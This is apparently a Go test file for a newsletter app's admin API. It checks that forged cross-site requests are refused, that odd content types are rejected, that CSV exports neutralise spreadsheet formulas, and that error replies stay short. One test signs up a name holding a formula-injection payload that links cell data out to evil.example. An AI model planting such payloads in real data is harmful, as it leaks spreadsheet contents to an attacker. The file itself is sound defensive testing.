package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"newsletter/internal/newsletter"
	"newsletter/internal/roster"
)

// TestAdminRefusesOtherSites replays what a page on another site can make a browser send
// with the admin's Basic credentials, and what a script sends with the bearer token.
func TestAdminRefusesOtherSites(t *testing.T) {
	const csvBody = "email,name\r\ncarol@example.com,C\r\n"
	multipartBody := func() (string, []byte) {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		mw.WriteField("note", "first")
		fw, _ := mw.CreateFormFile("file", "list.csv")
		fw.Write([]byte(csvBody))
		mw.Close()
		return mw.FormDataContentType(), buf.Bytes()
	}
	mpType, mpBody := multipartBody()
	tests := []struct {
		name         string
		method, path string
		contentType  string
		body         []byte
		bearer       bool
		header       map[string]string
		want         int
	}{
		{"text/plain CSV import from another site", http.MethodPost, "/api/subscribers/import?resubscribe=true", "text/plain", []byte(csvBody), false,
			map[string]string{"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"CSV import with another site's Origin only", http.MethodPost, "/api/subscribers/import?resubscribe=true", "text/csv", []byte(csvBody), false,
			map[string]string{"Origin": "http://evil.example"}, http.StatusForbidden},
		{"CSV import marked cross-site only", http.MethodPost, "/api/subscribers/import?resubscribe=true", "text/csv", []byte(csvBody), false,
			map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"import from a sibling site", http.MethodPost, "/api/subscribers/import?resubscribe=true", "text/csv", []byte(csvBody), false,
			map[string]string{"Sec-Fetch-Site": "same-site"}, http.StatusForbidden},
		{"import from an opaque origin", http.MethodPost, "/api/subscribers/import?resubscribe=true", "text/csv", []byte(csvBody), false,
			map[string]string{"Origin": "null"}, http.StatusForbidden},
		{"text/plain CSV import from the same origin", http.MethodPost, "/api/subscribers/import?resubscribe=true", "text/plain", []byte(csvBody), false,
			map[string]string{"Sec-Fetch-Site": "same-origin"}, http.StatusUnsupportedMediaType},
		{"urlencoded CSV import by a script", http.MethodPost, "/api/subscribers/import", "application/x-www-form-urlencoded", []byte(csvBody), true,
			nil, http.StatusUnsupportedMediaType},
		{"JSON as text/plain", http.MethodPost, "/api/subscribers", "text/plain", []byte(`{"email":"dan@example.com"}`), false,
			nil, http.StatusUnsupportedMediaType},
		{"JSON without a type", http.MethodPost, "/api/subscribers", "", []byte(`{"email":"dan@example.com"}`), true,
			nil, http.StatusUnsupportedMediaType},
		{"DELETE from another site", http.MethodDelete, "/api/subscribers/erin@example.com", "", nil, false,
			map[string]string{"Origin": "http://evil.example"}, http.StatusForbidden},
		{"GET from another site", http.MethodGet, "/api/subscribers/export", "", nil, false,
			map[string]string{"Sec-Fetch-Site": "cross-site"}, http.StatusForbidden},
		{"JSON add by a script", http.MethodPost, "/api/subscribers", "application/json; charset=utf-8", []byte(`{"email":"dan@example.com"}`), true,
			nil, http.StatusCreated},
		{"CSV import by a script", http.MethodPost, "/api/subscribers/import", "text/csv; charset=utf-8", []byte("email\nfred@example.com\n"), true,
			nil, http.StatusOK},
		{"multipart import by a script", http.MethodPost, "/api/subscribers/import", mpType, mpBody, true,
			nil, http.StatusOK},
		{"DELETE from the admin's own page", http.MethodDelete, "/api/subscribers/erin@example.com", "", nil, false,
			map[string]string{"Origin": "SRV", "Sec-Fetch-Site": "same-origin"}, http.StatusOK},
		{"JSON add from base_url behind a proxy", http.MethodPost, "/api/subscribers", "application/json", []byte(`{"email":"gus@example.com"}`), false,
			map[string]string{"Origin": "https://news.example.org"}, http.StatusCreated},
		{"multipart admin upload as text/plain", http.MethodPost, "/admin/import", "text/plain", []byte(csvBody), false,
			map[string]string{"Origin": "SRV"}, http.StatusUnsupportedMediaType},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := setupSignup(t, 100, 100)
			ctx := context.Background()
			for _, email := range []string{"carol@example.com", "erin@example.com"} {
				if _, _, err := f.svc.Add(ctx, roster.AddRequest{Email: email, Source: "cli"}); err != nil {
					t.Fatal(err)
				}
			}
			if _, _, err := f.svc.Remove(ctx, "carol@example.com", "cli"); err != nil {
				t.Fatal(err)
			}
			req := mustReq(t, tt.method, f.srv.URL+tt.path, tt.body)
			if tt.contentType != "" {
				req.Header.Set("Content-Type", tt.contentType)
			}
			if tt.bearer {
				req.Header.Set("Authorization", "Bearer "+adminToken)
			} else {
				req.SetBasicAuth("admin", adminToken)
			}
			for k, v := range tt.header {
				if v == "SRV" {
					v = f.srv.URL
				}
				req.Header.Set(k, v)
			}
			code, body := do(t, req)
			if code != tt.want {
				t.Fatalf("%d, want %d\n%s", code, tt.want, body)
			}
			if code < 300 {
				return
			}
			// Refused: nothing changed.
			for email, want := range map[string]newsletter.SubscriberStatus{"carol@example.com": newsletter.StatusUnsubscribed, "erin@example.com": newsletter.StatusActive} {
				rec, err := f.svc.Show(ctx, email)
				if err != nil {
					t.Fatal(err)
				}
				if rec.Subscriber.Status != want {
					t.Errorf("%s is %s after a refused request, want %s", email, rec.Subscriber.Status, want)
				}
			}
			if n, _, _ := f.svc.List(ctx, roster.Filter{}); len(n) != 2 {
				t.Errorf("%d subscribers after a refused request, want 2", len(n))
			}
		})
	}
}

// TestExportsNeutraliseFormulas signs up a hostile name through the public form and reads
// it back from both CSV exports.
func TestExportsNeutraliseFormulas(t *testing.T) {
	f := setupSignup(t, 100, 100)
	name := `=HYPERLINK("http://evil.example/?x="&A2,"Click")`
	if code, body := f.signUp(t, url.Values{"email": {"mallory@example.com"}, "name": {name}, "form_token": {f.formToken(t)}}); code != http.StatusOK {
		t.Fatalf("sign-up: %d\n%s", code, body)
	}
	for _, path := range []string{"/admin/export.csv", "/api/subscribers/export"} {
		t.Run(path, func(t *testing.T) {
			code, body := f.api(t, http.MethodGet, path, "", true)
			if code != http.StatusOK {
				t.Fatalf("%d\n%s", code, body)
			}
			recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
			if err != nil || len(recs) != 2 {
				t.Fatalf("%v\n%s", err, body)
			}
			if recs[1][1] != "'"+name {
				t.Errorf("name cell %q, want %q", recs[1][1], "'"+name)
			}
		})
	}
}

// TestAPIErrorsQuoteLittle sends the API input of many megabytes where a short value
// belongs: the answer quotes at most about 100 bytes of it.
func TestAPIErrorsQuoteLittle(t *testing.T) {
	f := setupSignupImport(t, 100, 100, 64<<20)
	huge := strings.Repeat("z", 10<<20)
	tests := []struct {
		name, method, path, body string
		want                     int
		wantIn                   string
	}{
		{"a CSV of one 10 MB field", http.MethodPost, "/api/subscribers/import", huge, http.StatusBadRequest, "longer than 65536 bytes"},
		{"a 10 MB field in a row", http.MethodPost, "/api/subscribers/import", "email,name\na@example.com,A\nb@example.com," + huge + "\nc@example.com,C\n", http.StatusOK, `"line": 3`},
		{"a 10 MB address in a row", http.MethodPost, "/api/subscribers/import", "email\n" + huge + "\nd@example.com\n", http.StatusOK, `"line": 2`},
		{"a 60 KB unknown JSON field", http.MethodPost, "/api/subscribers", `{"` + huge[:60<<10] + `":1}`, http.StatusBadRequest, "unknown field"},
		{"a 10 KB status filter", http.MethodGet, "/api/subscribers?status=" + huge[:10<<10], "", http.StatusBadRequest, "unknown status"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, body := f.api(t, tt.method, tt.path, tt.body, true)
			if code != tt.want || !strings.Contains(body, tt.wantIn) {
				t.Fatalf("%d, want %d with %q\n%.500s", code, tt.want, tt.wantIn, body)
			}
			if n := strings.Count(body, "z"); n > 110 {
				t.Errorf("the answer quotes %d bytes of the input:\n%.500s", n, body)
			}
		})
	}
	// The rows around the long ones went in.
	subs, _, err := f.svc.List(context.Background(), roster.Filter{})
	if err != nil || len(subs) != 3 {
		t.Fatalf("%d subscribers after the imports, want a, c and d: %v", len(subs), err)
	}
}
